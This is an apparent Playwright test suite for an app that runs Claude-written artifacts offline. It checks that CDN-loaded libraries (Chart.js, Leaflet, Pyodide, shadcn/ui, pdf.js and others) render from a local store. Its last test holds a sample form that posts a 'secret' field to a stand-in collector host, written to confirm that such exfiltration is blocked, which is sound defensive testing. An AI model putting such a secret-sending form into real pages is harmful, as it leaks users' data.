import type { Page } from '@playwright/test';
import { sse } from './fake-anthropic/responses.mjs';
import { expect, type messageRequests, toolResult as resultOf, send, test } from './support/test';

// The shelf's exact mapping and its newer libraries, end to end in the built app: pages as Claude writes them
// (integrity hashes, d3's own host, Leaflet, Google Fonts, shadcn/ui's calendar, Radix imported directly,
// IndexedDB) run offline from the shelf. The suite's network tripwire is on in every test: none of these
// addresses may leave the browser.

type Lane = Parameters<typeof messageRequests>[0];

const claude = (page: Page) => page.getByRole('article', { name: 'Claude' });
const panel = (page: Page) => page.getByRole('region', { name: 'Artifacts' });
const preview = (page: Page, filename: string) =>
  page.getByTitle(`${filename} preview`, { exact: true }).contentFrame();
const consoleRegion = (page: Page) => panel(page).getByRole('region', { name: 'Console' });

test.describe.configure({ timeout: 60_000 });

async function modelCreates(page: Page, anthropic: Lane, filename: string, content: string) {
  await anthropic.reply(
    sse.toolUse({ name: 'artifacts', id: 'toolu_create', input: { command: 'create', filename, content } }),
  );
  await anthropic.reply(sse.text('The file is ready.'));
  await send(page, `Write ${filename}`);
  // The tool's console check runs the page first: a Pyodide page starts Python (seconds on a loaded machine).
  await expect(claude(page).last()).toContainText('The file is ready.', { timeout: 60_000 });
}

test('a Chart.js script carrying an integrity hash and d3 from d3js.org render, with one line about the hash', async ({
  app,
  anthropic,
}) => {
  const page = `<!DOCTYPE html>
<html>
<head>
  <script src="https://cdn.jsdelivr.net/npm/chart.js@4.5.1/dist/chart.umd.min.js" integrity="sha384-9nhczxUqK87bcKHh20fSQcTGD4qq5GhayNYSYWqwBkINBhOfQLg/P5HG5lF1urn4" crossorigin="anonymous"></script>
  <script src="https://d3js.org/d3.v7.min.js"></script>
</head>
<body>
  <canvas id="chart" width="300" height="150"></canvas>
  <svg id="bars" width="200" height="60"></svg>
  <script>
    new Chart(document.getElementById('chart'), {
      type: 'line',
      data: { labels: ['a', 'b', 'c'], datasets: [{ label: 'n', data: [1, 3, 2] }] },
      options: { animation: false },
    });
    d3.select('#bars').selectAll('rect').data([10, 30, 20]).enter().append('rect')
      .attr('x', (d, i) => i * 30).attr('width', 20).attr('height', (d) => d).attr('aria-label', (d) => 'bar ' + d);
    console.log('chart ' + Chart.version + ', d3 ' + d3.version);
  </script>
</body>
</html>`;
  await modelCreates(app, anthropic, 'hashed.html', page);

  const frame = preview(app, 'hashed.html');
  await expect(frame.locator('rect')).toHaveCount(3);
  await expect(frame.locator('#chart')).toHaveAttribute('style', /display: block/);
  const result = await resultOf(anthropic, 'toolu_create');
  expect(result).toMatch(/\[log\] chart 4\.\d+\.\d+, d3 7\.\d+\.\d+/);
  expect(result).toContain("[info] The page's integrity hash for chart.js names other bytes");
  expect(result).not.toContain('[error]');
  expect(result).not.toContain('Chart is not defined');
});

test('a Leaflet page shows its map, controls and marker with no network, and says once that tiles are not loaded', async ({
  app,
  anthropic,
}) => {
  const page = `<!DOCTYPE html>
<html>
<head>
  <link rel="stylesheet" href="https://unpkg.com/leaflet@1.9.4/dist/leaflet.css" integrity="sha256-p4NxAoJBhIIN+hmNHrzRCf9tD/miZyoHS5obTRR9BMY=" crossorigin="">
  <script src="https://unpkg.com/leaflet@1.9.4/dist/leaflet.js" integrity="sha256-20nQCchB9co0qIjJZRGuk2/Z9VM+kNiyxNV1lvTlZBo=" crossorigin=""></script>
  <style>#map { height: 300px; }</style>
</head>
<body>
  <div id="map"></div>
  <script>
    const map = L.map('map').setView([51.505, -0.09], 13);
    L.tileLayer('https://tile.openstreetmap.org/{z}/{x}/{y}.png', { attribution: '&copy; OpenStreetMap' }).addTo(map);
    L.marker([51.5, -0.09]).addTo(map).bindPopup('Here');
    L.circle([51.508, -0.11], { radius: 500 }).addTo(map);
  </script>
</body>
</html>`;
  await modelCreates(app, anthropic, 'map.html', page);

  const frame = preview(app, 'map.html');
  await expect(frame.getByRole('button', { name: 'Zoom in' })).toBeVisible();
  await expect(frame.getByRole('button', { name: 'Zoom out' })).toBeVisible();
  // The stylesheet applied (the map pane is positioned) and the marker's image came from the shelf.
  await expect(frame.locator('.leaflet-container')).toHaveCSS('overflow', 'hidden');
  const marker = frame.getByRole('button', { name: 'Marker' });
  await expect(marker).toHaveAttribute('src', /^data:image\/png;base64,/);
  expect(await marker.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(25);
  await expect(frame.locator('path.leaflet-interactive')).toHaveCount(1);
  await frame.getByRole('button', { name: 'Zoom in' }).click();
  const result = await resultOf(anthropic, 'toolu_create');
  expect(result).not.toContain('[error]');
  const tileLines = result.split('\n').filter((line) => line.includes('openstreetmap.org'));
  expect(tileLines).toEqual([
    '[info] Map tiles from openstreetmap.org are not loaded (previews have no network): the map shows its controls, markers and shapes on a blank background.',
  ]);
});

test('a Google Fonts stylesheet renders in the linked font from the shelf; a family not there falls back quietly', async ({
  app,
  anthropic,
}) => {
  const page = `<link rel="preconnect" href="https://fonts.googleapis.com">
<link href="https://fonts.googleapis.com/css2?family=Playfair+Display:wght@700&family=Inter:wght@400;700&display=swap" rel="stylesheet">
<style>@import url('https://fonts.googleapis.com/css2?family=JetBrains+Mono&display=swap');
body { font-family: 'Inter', monospace; } h1 { font-family: 'Playfair Display', monospace; font-weight: 700; }
code { font-family: 'JetBrains Mono', serif; } .other { font-family: 'Comic Neue', monospace; }</style>
<h1>Typeset</h1><p id="body">Hamburgefonstiv</p><code>const x = 1;</code><p class="other">Fallback</p>`;
  await modelCreates(app, anthropic, 'fonts.html', page);

  const frame = preview(app, 'fonts.html');
  await expect(frame.getByRole('heading', { name: 'Typeset' })).toBeVisible();
  await expect(frame.locator('#body')).toHaveCSS('font-family', 'Inter, monospace');
  // The fonts loaded and are used: the text is as wide as in that font, not as in the fallback.
  const widths = await frame.locator('body').evaluate(async () => {
    await document.fonts.ready;
    const width = (family: string, weight = '400') => {
      const span = document.createElement('span');
      span.textContent = 'Hamburgefonstiv 0123';
      span.style.font = `${weight} 40px ${family}`;
      document.body.append(span);
      const w = span.getBoundingClientRect().width;
      span.remove();
      return w;
    };
    return {
      inter: width("'Inter', monospace"),
      playfair: width("'Playfair Display', monospace", '700'),
      mono: width('monospace'),
      loaded: ['400 16px Inter', '700 16px "Playfair Display"', '400 16px "JetBrains Mono"'].map((f) =>
        document.fonts.check(f),
      ),
    };
  });
  expect(widths.loaded).toEqual([true, true, true]);
  expect(Math.abs(widths.inter - widths.mono)).toBeGreaterThan(20);
  expect(Math.abs(widths.playfair - widths.mono)).toBeGreaterThan(20);
  const result = await resultOf(anthropic, 'toolu_create');
  expect(result).not.toContain('[error]');
  expect(result).not.toContain('Web fonts from fonts.googleapis.com');
  await expect(consoleRegion(app)).not.toContainText('error');
});

test('a React component using the shadcn/ui calendar and one importing @radix-ui/react-tabs render', async ({
  app,
  anthropic,
}) => {
  const component = `import React, { useState } from 'react';
import { Calendar } from '@/components/ui/calendar';
import * as Tabs from '@radix-ui/react-tabs';

export default function Planner() {
  const [date, setDate] = useState<Date | undefined>(new Date(2025, 4, 14));
  return (
    <div className="p-4">
      <Tabs.Root defaultValue="month">
        <Tabs.List aria-label="Views">
          <Tabs.Trigger value="month">Month</Tabs.Trigger>
          <Tabs.Trigger value="notes">Notes</Tabs.Trigger>
        </Tabs.List>
        <Tabs.Content value="month">
          <Calendar mode="single" selected={date} onSelect={setDate} defaultMonth={new Date(2025, 4, 1)} className="rounded-md border" />
          <p data-testid="chosen">{date ? date.toDateString() : 'none'}</p>
        </Tabs.Content>
        <Tabs.Content value="notes"><p>No notes yet</p></Tabs.Content>
      </Tabs.Root>
    </div>
  );
}
`;
  await modelCreates(app, anthropic, 'Planner.tsx', component);

  const frame = preview(app, 'Planner.tsx');
  await expect(frame.getByRole('grid', { name: 'May 2025' })).toBeVisible();
  await expect(frame.getByTestId('chosen')).toHaveText('Wed May 14 2025');
  await frame.getByRole('button', { name: /May 20th, 2025/ }).click();
  await expect(frame.getByTestId('chosen')).toHaveText('Tue May 20 2025');
  await frame.getByRole('tab', { name: 'Notes' }).click();
  await expect(frame.getByText('No notes yet')).toBeVisible();
  const result = await resultOf(anthropic, 'toolu_create');
  expect(result).toContain('Preview: the page loaded. No console output and no errors.');
});

test('a page that opens IndexedDB keeps and reads its records in memory', async ({ app, anthropic }) => {
  const page = `<p id="out">…</p>
<script>
  const request = indexedDB.open('notes', 1);
  request.onupgradeneeded = () => request.result.createObjectStore('items', { keyPath: 'id' });
  request.onsuccess = () => {
    const db = request.result;
    const tx = db.transaction('items', 'readwrite');
    tx.objectStore('items').put({ id: 1, text: 'kept' });
    tx.oncomplete = () => {
      db.transaction('items').objectStore('items').get(1).onsuccess = (e) => {
        document.getElementById('out').textContent = 'read ' + e.target.result.text;
      };
    };
  };
  request.onerror = () => console.error('open failed', request.error);
</script>`;
  await modelCreates(app, anthropic, 'notes.html', page);

  await expect(preview(app, 'notes.html').getByText('read kept')).toBeVisible();
  const result = await resultOf(anthropic, 'toolu_create');
  expect(result).not.toContain('[error]');
});

test('a page loading Pyodide from jsDelivr runs Python from the shelf', async ({ app, anthropic }) => {
  test.setTimeout(120_000);
  const page = `<!DOCTYPE html>
<html>
<head><script src="https://cdn.jsdelivr.net/pyodide/v0.26.4/full/pyodide.js"></script></head>
<body>
  <pre id="out">Loading Python…</pre>
  <script>
    async function main() {
      const pyodide = await loadPyodide({ indexURL: 'https://cdn.jsdelivr.net/pyodide/v0.26.4/full/' });
      const result = pyodide.runPython(\`
import sys, json, statistics
json.dumps({"mean": statistics.mean([1, 2, 3, 4]), "major": sys.version_info.major})
\`);
      document.getElementById('out').textContent = 'Python says ' + result;
    }
    main().catch((error) => console.error('Python failed: ' + error));
  </script>
</body>
</html>`;
  await modelCreates(app, anthropic, 'python.html', page);

  await expect(preview(app, 'python.html').getByText('Python says {"mean": 2.5, "major": 3}')).toBeVisible({
    timeout: 90_000,
  });
  await expect(consoleRegion(app)).not.toContainText('error');
});

test('pages written for Chart.js 2, marked 12 and three r128’s examples/js add-ons get those, with a clean console', async ({
  app,
  anthropic,
}) => {
  const page = `<!DOCTYPE html>
<html>
<head>
  <script src="https://cdnjs.cloudflare.com/ajax/libs/Chart.js/2.9.4/Chart.min.js"></script>
  <script src="https://cdn.jsdelivr.net/npm/marked@12.0.2/marked.min.js"></script>
  <script src="https://cdnjs.cloudflare.com/ajax/libs/three.js/r128/three.min.js"></script>
  <script src="https://cdn.jsdelivr.net/npm/three@0.128.0/examples/js/controls/OrbitControls.js"></script>
</head>
<body>
  <canvas id="chart" width="300" height="150"></canvas>
  <div id="md"></div>
  <script>
    // Chart.js 2's options: scales.yAxes and ticks.beginAtZero, gone in 3.
    new Chart(document.getElementById('chart').getContext('2d'), {
      type: 'bar',
      data: { labels: ['a', 'b'], datasets: [{ label: 'n', data: [1, 2] }] },
      options: { animation: false, scales: { yAxes: [{ ticks: { beginAtZero: true } }] } },
    });
    // marked 12's renderer takes (text, level); 13 and later pass one token object.
    marked.use({ renderer: { heading(text, level) { return '<h' + level + '>' + text + '</h' + level + '>'; } } });
    document.getElementById('md').innerHTML = marked.parse('# Title');
    const camera = new THREE.PerspectiveCamera(75, 1, 0.1, 100);
    const controls = new THREE.OrbitControls(camera, document.body);
    console.log('chart ' + (Chart.defaults.global ? 2 : 'other') + ', controls ' + typeof controls.update);
  </script>
</body>
</html>`;
  await modelCreates(app, anthropic, 'old-majors.html', page);
  const frame = preview(app, 'old-majors.html');
  await expect(frame.getByRole('heading', { name: 'Title' })).toBeVisible();
  const result = await resultOf(anthropic, 'toolu_create');
  expect(result).toContain('[log] chart 2, controls function');
  expect(result).not.toContain('[error]');
  expect(result).not.toContain('was asked for; the preview has');
});

test('a page linking the Tabler icons web font from jsDelivr draws its icons from the shelf', async ({
  app,
  anthropic,
}) => {
  const page = `<!DOCTYPE html>
<html>
<head>
  <link rel="stylesheet" href="https://cdn.jsdelivr.net/npm/@tabler/icons-webfont@latest/dist/tabler-icons.min.css">
</head>
<body>
  <i class="ti ti-home" id="icon" style="font-size: 48px"></i>
  <script>
    // The face is declared by the stylesheet and loaded for the icon drawn (from its data: address).
    document.fonts.ready.then(() =>
      console.log('tabler ' + [...document.fonts].some((f) => f.family.includes('tabler-icons') && f.status === 'loaded')),
    );
  </script>
</body>
</html>`;
  await modelCreates(app, anthropic, 'icons.html', page);
  const frame = preview(app, 'icons.html');
  await expect(frame.locator('#icon')).toHaveCSS('font-family', /tabler-icons/);
  const result = await resultOf(anthropic, 'toolu_create');
  expect(result).toContain('[log] tabler true');
  expect(result).not.toContain('[error]');
});

test('a React component using the shadcn/ui sheet, breadcrumb and pagination renders and opens the sheet', async ({
  app,
  anthropic,
}) => {
  const component = `import React from 'react';
import { Sheet, SheetTrigger, SheetContent, SheetHeader, SheetTitle, SheetDescription } from '@/components/ui/sheet';
import { Breadcrumb, BreadcrumbList, BreadcrumbItem, BreadcrumbLink, BreadcrumbPage, BreadcrumbSeparator } from '@/components/ui/breadcrumb';
import { Pagination, PaginationContent, PaginationItem, PaginationLink, PaginationNext, PaginationPrevious } from '@/components/ui/pagination';
import { Button } from '@/components/ui/button';

export default function Docs() {
  return (
    <div className="p-4 space-y-4">
      <Breadcrumb>
        <BreadcrumbList>
          <BreadcrumbItem><BreadcrumbLink href="#">Home</BreadcrumbLink></BreadcrumbItem>
          <BreadcrumbSeparator />
          <BreadcrumbItem><BreadcrumbPage>Settings</BreadcrumbPage></BreadcrumbItem>
        </BreadcrumbList>
      </Breadcrumb>
      <Sheet>
        <SheetTrigger asChild><Button>Open filters</Button></SheetTrigger>
        <SheetContent side="left">
          <SheetHeader>
            <SheetTitle>Filters</SheetTitle>
            <SheetDescription>Narrow the list.</SheetDescription>
          </SheetHeader>
        </SheetContent>
      </Sheet>
      <Pagination>
        <PaginationContent>
          <PaginationItem><PaginationPrevious href="#" /></PaginationItem>
          <PaginationItem><PaginationLink href="#" isActive>1</PaginationLink></PaginationItem>
          <PaginationItem><PaginationNext href="#" /></PaginationItem>
        </PaginationContent>
      </Pagination>
    </div>
  );
}
`;
  await modelCreates(app, anthropic, 'Docs.tsx', component);
  const frame = preview(app, 'Docs.tsx');
  await expect(
    frame.getByRole('navigation', { name: 'breadcrumb' }).getByRole('link', { name: 'Home' }),
  ).toBeVisible();
  await expect(
    frame.getByRole('navigation', { name: 'pagination' }).getByRole('link', { name: 'Go to next page' }),
  ).toBeVisible();
  await frame.getByRole('button', { name: 'Open filters' }).click();
  await expect(frame.getByRole('dialog', { name: 'Filters' })).toBeVisible();
  const result = await resultOf(anthropic, 'toolu_create');
  expect(result).not.toContain('[error]');
});

test('pages loading pdf.js, sql.js and viz.js from CDNs run them from the shelf, WebAssembly included', async ({
  app,
  anthropic,
}) => {
  // A one-page PDF as a page would build or read it; sql.js finds its .wasm where locateFile points.
  const page = `<!DOCTYPE html>
<html>
<head>
  <script src="https://cdnjs.cloudflare.com/ajax/libs/pdf.js/3.4.120/pdf.min.js"></script>
  <script src="https://cdnjs.cloudflare.com/ajax/libs/sql.js/1.8.0/sql-wasm.js"></script>
</head>
<body>
  <p id="pdf">…</p><p id="sql">…</p><div id="graph"></div>
  <script>
    pdfjsLib.GlobalWorkerOptions.workerSrc = 'https://cdnjs.cloudflare.com/ajax/libs/pdf.js/3.4.120/pdf.worker.min.js';
    const pdf = '%PDF-1.4\\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]>>endobj\\ntrailer<</Root 1 0 R>>\\n%%EOF';
    pdfjsLib.getDocument({ data: new TextEncoder().encode(pdf) }).promise
      .then((doc) => { document.getElementById('pdf').textContent = 'PDF pages: ' + doc.numPages; })
      .catch((error) => console.error('pdf.js failed: ' + error));
    initSqlJs({ locateFile: (file) => 'https://cdnjs.cloudflare.com/ajax/libs/sql.js/1.8.0/' + file })
      .then((SQL) => {
        const db = new SQL.Database();
        document.getElementById('sql').textContent = 'SQL says ' + db.exec('SELECT 6 * 7')[0].values[0][0];
      })
      .catch((error) => console.error('sql.js failed: ' + error));
  </script>
  <script type="module">
    import { instance } from 'https://cdn.jsdelivr.net/npm/@viz-js/viz@3.9.0/+esm';
    const viz = await instance();
    document.getElementById('graph').append(viz.renderSVGElement('digraph { easel -> shelf }'));
  </script>
</body>
</html>`;
  await modelCreates(app, anthropic, 'wasm.html', page);

  const frame = preview(app, 'wasm.html');
  await expect(frame.getByText('PDF pages: 1')).toBeVisible({ timeout: 30_000 });
  await expect(frame.getByText('SQL says 42')).toBeVisible({ timeout: 30_000 });
  await expect(frame.locator('#graph svg .node')).toHaveCount(2, { timeout: 30_000 });
  await expect(frame.locator('#graph svg')).toContainText('shelf');
  const result = await resultOf(anthropic, 'toolu_create');
  expect(result).not.toContain('[error]');
  await expect(consoleRegion(app)).not.toContainText('error');
});

test('a React component using the shadcn/ui dropdown menu, hover card and toggle group opens and toggles them', async ({
  app,
  anthropic,
}) => {
  const component = `import React, { useState } from 'react';
import { DropdownMenu, DropdownMenuTrigger, DropdownMenuContent, DropdownMenuLabel, DropdownMenuSeparator, DropdownMenuItem, DropdownMenuCheckboxItem } from '@/components/ui/dropdown-menu';
import { HoverCard, HoverCardTrigger, HoverCardContent } from '@/components/ui/hover-card';
import { ToggleGroup, ToggleGroupItem } from '@/components/ui/toggle-group';
import { Button } from '@/components/ui/button';

export default function Toolbar() {
  const [picked, setPicked] = useState('none');
  const [wrap, setWrap] = useState(false);
  return (
    <div className="p-4 space-y-4">
      <DropdownMenu>
        <DropdownMenuTrigger asChild><Button>Actions</Button></DropdownMenuTrigger>
        <DropdownMenuContent>
          <DropdownMenuLabel>File</DropdownMenuLabel>
          <DropdownMenuSeparator />
          <DropdownMenuItem onSelect={() => setPicked('rename')}>Rename</DropdownMenuItem>
          <DropdownMenuCheckboxItem checked={wrap} onCheckedChange={setWrap}>Wrap lines</DropdownMenuCheckboxItem>
        </DropdownMenuContent>
      </DropdownMenu>
      <p>Picked: {picked}</p>
      <HoverCard openDelay={0}>
        <HoverCardTrigger href="#">@easel</HoverCardTrigger>
        <HoverCardContent>Runs what Claude writes.</HoverCardContent>
      </HoverCard>
      <ToggleGroup type="single" defaultValue="left" aria-label="Alignment">
        <ToggleGroupItem value="left" aria-label="Left">L</ToggleGroupItem>
        <ToggleGroupItem value="right" aria-label="Right">R</ToggleGroupItem>
      </ToggleGroup>
    </div>
  );
}
`;
  await modelCreates(app, anthropic, 'Toolbar.tsx', component);
  const frame = preview(app, 'Toolbar.tsx');
  await frame.getByRole('button', { name: 'Actions' }).click();
  await expect(frame.getByRole('menu')).toBeVisible();
  await expect(frame.getByRole('menuitemcheckbox', { name: 'Wrap lines' })).toHaveAttribute(
    'aria-checked',
    'false',
  );
  await frame.getByRole('menuitem', { name: 'Rename' }).click();
  await expect(frame.getByText('Picked: rename')).toBeVisible();
  await expect(frame.getByRole('menu')).toBeHidden();
  await expect(frame.getByRole('radio', { name: 'Left' })).toHaveAttribute('aria-checked', 'true');
  await frame.getByRole('radio', { name: 'Right' }).click();
  await expect(frame.getByRole('radio', { name: 'Right' })).toHaveAttribute('aria-checked', 'true');
  await frame.getByRole('link', { name: '@easel' }).hover();
  await expect(frame.getByText('Runs what Claude writes.')).toBeVisible();
  const result = await resultOf(anthropic, 'toolu_create');
  expect(result).not.toContain('[error]');
});

test('a React component using the shadcn/ui command, sonner, form, carousel and resizable works as a person uses it', async ({
  app,
  anthropic,
}) => {
  const component = `import React, { useState } from 'react';
import { useForm } from 'react-hook-form';
import { toast } from 'sonner';
import { Toaster } from '@/components/ui/sonner';
import { Command, CommandInput, CommandList, CommandEmpty, CommandGroup, CommandItem } from '@/components/ui/command';
import { Form, FormField, FormItem, FormLabel, FormControl, FormMessage } from '@/components/ui/form';
import { Carousel, CarouselContent, CarouselItem, CarouselPrevious, CarouselNext } from '@/components/ui/carousel';
import { ResizablePanelGroup, ResizablePanel, ResizableHandle } from '@/components/ui/resizable';
import { Menubar, MenubarMenu, MenubarTrigger, MenubarContent, MenubarItem } from '@/components/ui/menubar';
import { Input } from '@/components/ui/input';
import { Button } from '@/components/ui/button';

export default function Workbench() {
  const [picked, setPicked] = useState('nothing');
  const [greeting, setGreeting] = useState('');
  const form = useForm({ defaultValues: { name: '' } });
  return (
    <div className="p-4 space-y-6 max-w-xl mx-auto">
      <Toaster />
      <Menubar>
        <MenubarMenu>
          <MenubarTrigger>File</MenubarTrigger>
          <MenubarContent>
            <MenubarItem onSelect={() => toast('Saved the draft')}>Save</MenubarItem>
          </MenubarContent>
        </MenubarMenu>
      </Menubar>
      <Command className="border">
        <CommandInput placeholder="Type a command" />
        <CommandList>
          <CommandEmpty>No results.</CommandEmpty>
          <CommandGroup heading="Tools">
            <CommandItem onSelect={() => setPicked('calendar')}>Calendar</CommandItem>
            <CommandItem onSelect={() => setPicked('calculator')}>Calculator</CommandItem>
          </CommandGroup>
        </CommandList>
      </Command>
      <p>Picked: {picked}</p>
      <Form {...form}>
        <form onSubmit={form.handleSubmit((values) => setGreeting('Hello, ' + values.name))} className="space-y-2">
          <FormField
            control={form.control}
            name="name"
            rules={{ required: 'Name is required' }}
            render={({ field }) => (
              <FormItem>
                <FormLabel>Name</FormLabel>
                <FormControl><Input {...field} /></FormControl>
                <FormMessage />
              </FormItem>
            )}
          />
          <Button type="submit">Greet</Button>
        </form>
      </Form>
      <p>{greeting}</p>
      <Carousel className="mx-12" aria-label="Photos">
        <CarouselContent>
          {['One', 'Two', 'Three'].map((n) => <CarouselItem key={n}><div className="h-20 border">Slide {n}</div></CarouselItem>)}
        </CarouselContent>
        <CarouselPrevious />
        <CarouselNext />
      </Carousel>
      <ResizablePanelGroup direction="horizontal" className="h-24 border">
        <ResizablePanel defaultSize={50}>Left pane</ResizablePanel>
        <ResizableHandle withHandle />
        <ResizablePanel defaultSize={50}>Right pane</ResizablePanel>
      </ResizablePanelGroup>
    </div>
  );
}
`;
  await modelCreates(app, anthropic, 'Workbench.tsx', component);
  const frame = preview(app, 'Workbench.tsx');

  // The command list filters as the person types, and Enter picks the highlighted command.
  const search = frame.getByPlaceholder('Type a command');
  await search.fill('calc');
  await expect(frame.getByRole('option', { name: 'Calculator' })).toBeVisible();
  await expect(frame.getByRole('option', { name: 'Calendar' })).toBeHidden();
  await search.press('Enter');
  await expect(frame.getByText('Picked: calculator')).toBeVisible();
  await search.fill('zzz');
  await expect(frame.getByText('No results.')).toBeVisible();

  // A menubar item calls sonner's own toast(), which the shadcn/ui Toaster shows.
  await frame.getByRole('menuitem', { name: 'File' }).click();
  await frame.getByRole('menuitem', { name: 'Save' }).click();
  await expect(frame.getByText('Saved the draft')).toBeVisible();

  // The form (react-hook-form) says what is missing, on the field, then submits.
  const name = frame.getByRole('textbox', { name: 'Name' });
  await frame.getByRole('button', { name: 'Greet' }).click();
  await expect(frame.getByText('Name is required')).toBeVisible();
  await expect(name).toHaveAttribute('aria-invalid', 'true');
  await name.fill('Ada');
  await frame.getByRole('button', { name: 'Greet' }).click();
  await expect(frame.getByText('Hello, Ada')).toBeVisible();
  await expect(frame.getByText('Name is required')).toBeHidden();

  // The carousel moves to the next slide: the previous-slide button becomes usable.
  const photos = frame.getByRole('region', { name: 'Photos' });
  await expect(photos.getByRole('group')).toHaveCount(3);
  await expect(photos.getByRole('button', { name: 'Previous slide' })).toBeDisabled();
  await photos.getByRole('button', { name: 'Next slide' }).click();
  await expect(photos.getByRole('button', { name: 'Previous slide' })).toBeEnabled();

  // The resizable panels' handle moves with the arrow keys.
  const handle = frame.getByRole('separator');
  await expect(frame.getByText('Left pane')).toBeVisible();
  await expect(handle).toHaveAttribute('aria-valuenow', '50');
  await handle.focus();
  await handle.press('ArrowRight');
  await expect(handle).not.toHaveAttribute('aria-valuenow', '50');

  const result = await resultOf(anthropic, 'toolu_create');
  expect(result).not.toContain('[error]');
  await expect(consoleRegion(app)).not.toContainText('error');
});

test('a form in a preview gets its submit event, and a submission to another host does not leave the page', async ({
  app,
  anthropic,
}) => {
  const page = `<!DOCTYPE html><html><body>
<form id="note"><input name="text" aria-label="Note" value="milk"><button>Add</button></form>
<p id="list">Nothing yet</p>
<form action="https://collector.example/keep" method="post"><input name="secret" aria-label="Secret" value="s3cret"><button>Send away</button></form>
<script>
document.getElementById('note').addEventListener('submit', (event) => {
  event.preventDefault();
  document.getElementById('list').textContent = 'Added ' + new FormData(event.target).get('text');
});
</script></body></html>`;
  await modelCreates(app, anthropic, 'forms.html', page);
  const frame = preview(app, 'forms.html');
  await frame.getByRole('button', { name: 'Add' }).click();
  await expect(frame.getByText('Added milk')).toBeVisible();
  // A form the page does not handle is not sent and the page stays, with one line saying where it was going;
  // the suite's tripwire fails the test if anything reaches the network.
  await frame.getByRole('button', { name: 'Send away' }).click();
  await expect(consoleRegion(app)).toContainText('1 error');
  await consoleRegion(app)
    .getByRole('button', { name: /Console \(\d+\)/ })
    .click();
  await expect(consoleRegion(app).getByRole('list', { name: 'Console entries' })).toContainText(
    'A form was not sent to https://collector.example/keep (previews have no network).',
  );
  await expect(frame.getByRole('button', { name: 'Send away' })).toBeVisible();
  await expect(frame.getByText('Added milk')).toBeVisible();
});
